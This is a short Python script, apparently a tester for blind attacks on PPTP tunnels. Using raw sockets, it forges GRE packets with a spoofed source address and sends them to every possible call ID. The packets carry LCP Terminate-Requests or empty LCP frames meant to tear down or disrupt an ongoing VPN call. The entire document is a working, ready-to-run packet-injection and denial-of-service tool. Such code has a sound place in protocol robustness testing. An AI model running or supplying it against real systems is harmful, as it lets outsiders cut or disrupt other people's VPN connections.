#!/usr/bin/env python3
"""Somebody who knows the two addresses of a PPTP call and nothing else: tries all call ids with packets
that claim to be of one of them.

usage: stranger.py FROM TO KIND
KIND: ends      LCP Terminate-Requests, each id with two numbers 2^31 apart
      senseless one frame for each id whose protocol is LCP's and that holds no packet
      series    twelve Terminate-Requests in a row for each id
"""
import socket
import struct
import sys

TERMINATE = bytes.fromhex("ff03c021050700076c6f6c")
SENSELESS = bytes.fromhex("ff03c021ffff")
FAR = 1 << 29


def packet(source, target, call_id, number, frame):
    gre = struct.pack(">HHHHI", 0x3001, 0x880B, len(frame), call_id, number & 0xFFFFFFFF) + frame
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(gre), 0, 0, 64, 47, 0, source, target) + gre


KINDS = {
    "ends": [(FAR, TERMINATE), (FAR + (1 << 31), TERMINATE)],
    "senseless": [(5000, SENSELESS)],
    "series": [(FAR + n, TERMINATE) for n in range(12)],
}


def main():
    source, target = (socket.inet_aton(a) for a in sys.argv[1:3])
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for call_id in range(65536):
        for number, frame in KINDS[sys.argv[3]]:
            out.sendto(packet(source, target, call_id, number, frame), (sys.argv[2], 0))
            sent += 1
    print("sent", sent)


main()
